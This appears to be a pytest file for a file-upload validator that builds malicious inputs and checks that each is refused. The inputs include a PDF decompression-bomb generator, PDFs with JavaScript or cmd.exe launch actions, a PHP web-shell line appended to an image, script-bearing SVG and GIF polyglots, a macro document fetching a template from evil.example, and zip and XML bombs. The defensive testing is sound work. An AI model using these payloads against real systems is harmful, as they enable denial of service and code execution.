"""Files that could do harm (危険なファイル). All are made here; none lies in the repository."""

import resource
import struct
import uuid
import zipfile
import zlib
from datetime import UTC, datetime

import pikepdf
import pytest

from tsunagaru.ground.files import api
from tsunagaru.ground.files.api import Reason
from tsunagaru.ground.files.testing import (
    a_document,
    a_package,
    a_pdf,
    a_photo,
    an_upload,
)

pytestmark = pytest.mark.django_db
NOON = datetime(2026, 11, 23, 3, tzinfo=UTC)
SCRIPT = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def reason_for(content, name="書類.pdf"):
    """Return why a file is refused."""
    with pytest.raises(api.CannotKeep) as refused:
        api.keep(
            an_upload(content, name),
            owner_kind="draft",
            owner=uuid.uuid4(),
            allowed=set(api.KINDS),
            at=NOON,
        )
    return refused.value.reason


def a_png_of(width, height):
    """Return the header of a picture that would fill memory."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + head
    sealed = struct.pack(">I", 13) + chunk + struct.pack(">I", zlib.crc32(chunk))
    return b"\x89PNG\r\n\x1a\n" + sealed + b"\0\0\0\0IEND\xaeB`\x82"


def an_action(kind, **more):
    return pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **more)


@pytest.mark.parametrize(
    "root",
    [
        {"/OpenAction": SCRIPT},
        {"/OpenAction": an_action("Launch", F="cmd.exe")},
        {"/OpenAction": an_action("URI", URI="https://town.example/")},
        {"/AA": pikepdf.Dictionary(WC=SCRIPT)},
        {"/Names": pikepdf.Dictionary(JavaScript=pikepdf.Dictionary())},
        {"/Names": pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary())},
        {"/Deep": pikepdf.Array([pikepdf.Array([SCRIPT])])},
    ],
)
def test_a_pdf_that_acts_is_refused(root):
    assert reason_for(a_pdf(root=root)) is Reason.ACTIVE


def test_a_pdf_that_only_opens_at_a_page_is_kept():
    opening = {"/OpenAction": pikepdf.Array([0, pikepdf.Name.Fit])}
    upload = an_upload(a_pdf(root=opening))
    kept = api.keep(upload, owner_kind="draft", owner=uuid.uuid4(), allowed={"pdf"}, at=NOON)
    assert kept.media_type == "application/pdf"


def test_a_locked_pdf_is_refused():
    assert reason_for(a_pdf(password="1234")) is Reason.LOCKED


@pytest.mark.parametrize("content", [b"%PDF-1.7\nnothing", b"%PDF-" + b"\0" * 5000])
def test_a_broken_pdf_is_refused(content):
    assert reason_for(content) is Reason.BROKEN


def a_pdf_bomb(megabytes):
    """Return a PDF whose catalogue lies behind an object stream that unpacks to this size."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(b" " * 1_000_000) + packer.flush(zlib.Z_FULL_FLUSH)
    packed = b"\x78\xda" + block * megabytes
    head = b"%PDF-1.7\n"
    stream = (
        b"3 0 obj <</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>> stream\n" % len(packed)
        + packed
        + b"\nendstream endobj\n"
    )
    places = [(0, 0, 65535), (2, 3, 0), (0, 0, 0), (1, len(head), 0), (1, len(head + stream), 0)]
    table = b"".join(struct.pack(">BIH", *place) for place in places)
    index = b"4 0 obj <</Type/XRef/Size 5/W[1 4 2]/Root 1 0 R/Length 35>> stream\n" + table
    end = b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % len(head + stream)
    return head + stream + index + end


def test_a_pdf_that_unpacks_to_gigabytes_is_refused_outside_this_process():
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    assert reason_for(a_pdf_bomb(3000)) in {Reason.BOMB, Reason.BROKEN}
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 60_000


@pytest.mark.parametrize("size", [(60_000, 60_000), (40_000, 10), (12_000, 12_000)])
def test_a_picture_that_would_fill_memory_is_refused(size):
    assert reason_for(a_png_of(*size), "写真.png") is Reason.PIXELS


@pytest.mark.parametrize("content", [a_photo()[:20], b"\x89PNG\r\n\x1a\n" + b"\0" * 40])
def test_a_broken_picture_is_refused(content):
    assert reason_for(content) is Reason.BROKEN


@pytest.mark.parametrize(
    "addition",
    [
        b"<script>alert(1)</script>",
        b"<HTML><body>",
        b"%PDF-1.4 ...",
        b"<?php system($_GET[0]);",
        a_package({"a.txt": b"a"}),
    ],
)
def test_a_picture_that_is_something_else_as_well_is_refused(addition):
    assert reason_for(a_photo() + addition) is Reason.TWO_FACED


def test_what_straddles_two_pieces_is_still_seen():
    photo = a_photo()
    filling = b"\0" * (64 * 1024 - len(photo) - 3)
    assert reason_for(photo + filling + b"<script>") is Reason.TWO_FACED


@pytest.mark.parametrize(
    "content",
    [
        b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>",
        b"<!DOCTYPE html><script>alert(1)</script>",
        b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)",
        b"MZ\x90\x00",
        b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR",
        a_package({"readme.txt": b"hello"}),
    ],
)
def test_other_kinds_are_refused_whatever_their_name_says(content):
    assert reason_for(content, "写真.jpg") is Reason.WRONG_KIND


def test_a_photo_in_heic_is_told_what_to_do():
    assert reason_for(b"\0\0\0\x18ftypheic" + b"\0" * 50) is Reason.HEIC


def test_an_old_or_locked_office_file_is_refused():
    assert reason_for(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 50) is Reason.OLD_OFFICE


@pytest.mark.parametrize(
    "more",
    [
        {"word/vbaProject.bin": b"code"},
        {"word/embeddings/oleObject1.bin": b"code"},
        {"word/activeX/activeX1.xml": b"<ax/>"},
        {
            "word/_rels/settings.xml.rels": b'<Relationship Type="x/attachedTemplate" '
            b'Target="https://evil.example/t.dotm" TargetMode="External"/>'
        },
    ],
)
def test_an_office_file_with_a_program_is_refused(more):
    assert reason_for(a_document(more=more), "申請.docx") is Reason.MACRO


def test_a_macro_file_renamed_to_docx_is_refused():
    types = (
        b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled"/></Types>'
    )
    assert reason_for(a_package({"[Content_Types].xml": types}), "申請.docx") is Reason.MACRO


def test_a_zip_bomb_is_refused():
    assert reason_for(a_document(more={"word/media/a.png": b"\0" * 30_000_000})) is Reason.BOMB


def test_a_zip_with_very_many_parts_is_refused_before_its_table_is_read():
    crowd = a_package({f"{n}.xml": b"" for n in range(5000)}, packing=zipfile.ZIP_STORED)
    assert reason_for(crowd) is Reason.BOMB


def test_a_zip_whose_parts_overlap_is_refused():
    whole = bytearray(a_document(more={"a.xml": b"a" * 100, "b.xml": b"b" * 100}))
    entries = [m for m in range(len(whole)) if whole[m : m + 4] == b"PK\x01\x02"]
    whole[entries[-1] + 42 : entries[-1] + 46] = whole[entries[-2] + 42 : entries[-2] + 46]
    assert reason_for(bytes(whole)) is Reason.BOMB


def test_an_xml_bomb_inside_an_office_file_is_refused():
    bomb = b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'
    assert reason_for(a_document(more={"word/styles.xml": bomb})) is Reason.BOMB
